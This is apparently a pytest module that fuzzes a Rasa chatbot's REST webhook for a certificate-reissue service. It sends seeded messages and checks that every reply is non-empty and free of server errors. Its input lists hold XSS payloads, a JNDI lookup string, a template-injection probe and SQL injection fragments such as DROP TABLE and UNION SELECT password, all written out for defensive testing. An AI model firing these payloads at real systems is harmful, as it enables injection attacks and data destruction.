"""Fuzzing the public REST webhook: 5,000+ generated messages, no 5xx, a real reply every time.

Messages (seeded, so a failure can be replayed): random Unicode, emoji, huge texts, HTML/script, SQL
fragments, control characters, ID- and phone-like digit strings, Rasa slash commands and mixtures with
Chinese. 3,000 open a conversation, 2,000 are sent inside the reissue form at a random step. The full run
(`test_fuzz_5000_messages_over_three_processes` in test_scaled.py) spreads conversations over three Rasa
processes (the session stack's and the two scale-out ones) to finish in a few minutes on two cores; this
module builds the messages, checks the plan and sends a slice of it to the session stack alone.
"""
from __future__ import annotations

import asyncio
import json
import random
from collections import Counter
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Tuple

import aiohttp

from reissue import knowledge
from reissue.parsing.id_number import check_digit

SEED = 20261127
TOTAL = 5000
AT_START = 3000
CONCURRENCY_PER_PROCESS = 2
MAX_PER_SENDER = 29  # under the REST channel's 30 messages per minute per sender
SMOKE = 100
FORM_STEPS = ["我的一建证书丢了想补办", "领过", "没有电子证书", "建筑工程", "2018年9月", "张三",
              "370102198805120033", "不记得", "济南", "13800138000"]
EMOJI = ["😀", "🙏", "👍🏽", "👨‍👩‍👧‍👦", "🇨🇳", "❤️", "🤔", "🧧", "🀄", "⚠️", "🔥", "\U0001FAE0"]
HTML = ["<script>alert(1)</script>", "<img src=x onerror=alert('x')>", "<a href=\"javascript:alert(1)\">点我</a>",
        "</div><iframe src=//evil>", "{{7*7}}", "${jndi:ldap://x/a}", "<svg/onload=alert(1)>"]
SQL = ["'; DROP TABLE events; --", "1' OR '1'='1", "\" UNION SELECT password FROM users --", "补办'); DELETE FROM outbox; --",
       "%' AND 1=1 --", "\\'; SELECT pg_sleep(10); --", "Robert'); DROP TABLE applications;--"]
SLASH = ["/greet", "/restart", "/faq", "/faq{\"x\":", "/inform{\"id_number\":\"1\"}", "/nlu_fallback", "/", "//",
         "/affirm{", "/session_start", "/out_of_scope{\"a\":[1,2"]
CHINESE = "我要补办证书丢了损坏一建二建注册会计师身份证号手机济南青岛多久钱登报电子证书网上窗口材料照片進度補辦"


def valid_id(rng: random.Random) -> str:
    """A made-up ID number with a correct check digit."""
    body = f"37{rng.randint(1000, 9999)}{rng.randint(1950, 2005)}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}{rng.randint(0, 999):03d}"
    return body + check_digit(body)


def gen_unicode(rng: random.Random) -> str:
    """Random code points from every plane (no surrogates: JSON bodies must be UTF-8)."""
    out = []
    for _ in range(rng.randint(1, 60)):
        cp = rng.choice([rng.randint(0x20, 0x7E), rng.randint(0xA0, 0x2FFF), rng.randint(0x3000, 0x9FFF),
                         rng.randint(0xE000, 0xFFFD), rng.randint(0x10000, 0x10FFFF)])
        out.append(chr(cp))
    return "".join(out)


def gen_emoji(rng: random.Random) -> str:
    """Emoji, alone or around Chinese words."""
    return "".join(rng.choice(EMOJI + list(CHINESE)) for _ in range(rng.randint(1, 20)))


def gen_huge(rng: random.Random) -> str:
    """Over the message limit (polite 200) or over the body limit (polite 413)."""
    return rng.choice(CHINESE + "ab 1") * rng.choice([1001, 3000, 20_000, 60_000])


def gen_html(rng: random.Random) -> str:
    """Script and markup, sometimes inside a real question."""
    return rng.choice(["", "补办要登报吗", "我的证书丢了"]) + rng.choice(HTML)


def gen_sql(rng: random.Random) -> str:
    """SQL injection fragments."""
    return rng.choice(SQL) + rng.choice(["", " 张三", " 370102"])


def gen_control(rng: random.Random) -> str:
    """Control, zero-width, direction-override and BOM characters mixed with text."""
    pool = [chr(c) for c in range(0, 32)] + ["\x7f", "\u200b", "\u202e", "\ufeff", "\u2028", "\u0085"]
    return "".join(rng.choice(pool + list("补办证书")) for _ in range(rng.randint(1, 30)))


def gen_digits(rng: random.Random) -> str:
    """ID-like and phone-like digit strings, valid or not, in several spellings."""
    id_number = valid_id(rng)
    return rng.choice([
        id_number, id_number[:17] + "x", id_number[:15], f"身份证号是{id_number}", " ".join(id_number),
        "".join(chr(ord(c) + 0xFEE0) if c.isdigit() else c for c in id_number),
        f"1{rng.randint(3, 9)}{rng.randint(0, 999999999):09d}", str(rng.randint(0, 10 ** rng.randint(1, 30))),
        f"手机13{rng.randint(0, 999999999):09d}身份证{id_number}", "0" * rng.randint(1, 40),
    ])


def gen_slash(rng: random.Random) -> str:
    """Rasa's intent shortcuts, well-formed or broken."""
    return rng.choice(SLASH)


def gen_mixed(rng: random.Random) -> str:
    """Chinese fragments, Traditional characters, whitespace and punctuation."""
    return "".join(rng.choice(list(CHINESE) + [" ", "？", "！", "，", "\n", "a", "1"]) for _ in range(rng.randint(1, 40)))


GENERATORS: Dict[str, Callable[[random.Random], str]] = {
    "unicode": gen_unicode, "emoji": gen_emoji, "huge": gen_huge, "html": gen_html, "sql": gen_sql,
    "control": gen_control, "digits": gen_digits, "slash": gen_slash, "mixed": gen_mixed,
}


@dataclass
class Plan:
    """The conversations to send: (sender, [(text, is_fuzz, category)])."""

    conversations: List[Tuple[str, List[Tuple[str, bool, str]]]] = field(default_factory=list)

    @property
    def fuzz_count(self) -> int:
        """How many generated messages the plan sends."""
        return sum(1 for _, turns in self.conversations for _, fuzz, _ in turns if fuzz)


def make_plan(total: int = TOTAL, seed: int = SEED, at_start: int = AT_START) -> Plan:
    """`at_start` messages each opening a fresh conversation, the rest inside the form at a random step."""
    rng = random.Random(seed)
    names = list(GENERATORS)
    plan, made = Plan(), 0
    while made < min(at_start, total):
        category = names[made % len(names)]
        plan.conversations.append((f"fz-s{made}-{seed}", [(GENERATORS[category](rng), True, category)]))
        made += 1
    conversation = 0
    while made < total:
        steps = FORM_STEPS[: rng.randint(1, len(FORM_STEPS))]
        turns = [(text, False, "form") for text in steps]
        for _ in range(min(MAX_PER_SENDER - len(steps), total - made)):
            category = names[made % len(names)]
            turns.append((GENERATORS[category](rng), True, category))
            made += 1
        plan.conversations.append((f"fz-f{conversation}-{seed}", turns))
        conversation += 1
    rng.shuffle(plan.conversations)  # starts and form conversations interleaved
    return plan


@dataclass
class Outcome:
    """What the webhook answered."""

    statuses: Counter = field(default_factory=Counter)
    failures: List[str] = field(default_factory=list)
    apologies: List[str] = field(default_factory=list)
    sent: int = 0


async def send_conversation(session: aiohttp.ClientSession, url: str, sender: str,
                            turns: List[Tuple[str, bool, str]], outcome: Outcome) -> None:
    """Send one conversation's turns in order and judge every answer."""
    where = "start" if sender.startswith("fz-s") else "form"
    for text, _fuzz, category in turns:
        body = json.dumps({"sender": sender, "message": text}).encode("utf-8")
        try:
            async with session.post(url, data=body, headers={"Content-Type": "application/json"}) as response:
                status, raw = response.status, await response.read()
        except Exception as error:  # noqa: BLE001
            outcome.failures.append(f"{category}: {type(error).__name__} for {text[:40]!r}")
            continue
        outcome.sent += 1
        outcome.statuses[status] += 1
        try:
            reply = json.loads(raw)
        except ValueError:
            outcome.failures.append(f"{category}: non-JSON {status} for {text[:40]!r}")
            continue
        if status >= 500 or not isinstance(reply, list) or not reply:
            outcome.failures.append(f"{category}: {status} {raw[:80]!r} for {text[:40]!r}")
        elif any(m.get("text") == knowledge.message("channel_sorry") for m in reply):
            outcome.apologies.append(f"{category} ({where}): {text[:40]!r}")


async def run_fuzz(urls: List[str], plan: Plan) -> Outcome:
    """Send the plan; each conversation sticks to one webhook URL; two conversations at a time per URL."""
    outcome = Outcome()
    queues: List[asyncio.Queue] = [asyncio.Queue() for _ in urls]
    for index, conversation in enumerate(plan.conversations):
        queues[index % len(urls)].put_nowait(conversation)

    async def worker(session: aiohttp.ClientSession, url: str, queue: asyncio.Queue) -> None:
        """Take conversations for one URL until none are left."""
        while not queue.empty():
            sender, turns = queue.get_nowait()
            await send_conversation(session, url, sender, turns, outcome)

    timeout = aiohttp.ClientTimeout(total=120)
    connector = aiohttp.TCPConnector(limit=CONCURRENCY_PER_PROCESS * len(urls))
    async with aiohttp.ClientSession(timeout=timeout, connector=connector) as session:
        await asyncio.gather(*(worker(session, url, queue) for url, queue in zip(urls, queues)
                               for _ in range(CONCURRENCY_PER_PROCESS)))
    return outcome


def assert_fuzz_outcome(outcome: Outcome, plan: Plan) -> None:
    """Every message answered: no 5xx, no transport error, a non-empty reply list, no apology for a crash."""
    assert outcome.sent >= plan.fuzz_count
    assert not outcome.failures, f"{len(outcome.failures)} bad answers, e.g. {outcome.failures[:10]}"
    assert set(outcome.statuses) <= {200, 413}, outcome.statuses
    assert not outcome.apologies, f"{len(outcome.apologies)} messages were not handled: {outcome.apologies[:10]}"


def test_plan_has_enough_of_every_kind() -> None:
    """At least 5,000 generated messages, every category, 3,000 at the start and the rest in the form."""
    plan = make_plan()
    assert plan.fuzz_count >= 5000
    categories = Counter(c for _, turns in plan.conversations for _, fuzz, c in turns if fuzz)
    assert set(categories) == set(GENERATORS) and min(categories.values()) >= 500
    assert sum(1 for sender, _ in plan.conversations if sender.startswith("fz-s")) == AT_START
    form = [turns for sender, turns in plan.conversations if sender.startswith("fz-f")]
    assert all(len(turns) <= MAX_PER_SENDER for turns in form)
    assert {sum(1 for _, fuzz, _ in turns if not fuzz) for turns in form} >= {1, len(FORM_STEPS)}
    assert make_plan().conversations == plan.conversations, "the plan must be reproducible from its seed"


async def test_a_slice_of_the_fuzz_plan_on_the_session_stack(stack) -> None:
    """100 generated messages against the session stack alone (the full 5,000 run is in test_scaled.py)."""
    plan = make_plan(total=SMOKE, seed=SEED + 1, at_start=SMOKE // 2)
    outcome = await run_fuzz([f"{stack.rasa_url}/webhooks/rest/webhook"], plan)
    assert_fuzz_outcome(outcome, plan)
    for name in ("rasa", "actions"):
        assert stack.stack.service(name).process.poll() is None, f"{name} died during fuzzing"
    assert stack.texts("fz-after", "补办要登报吗"), "the bot no longer answers after fuzzing"
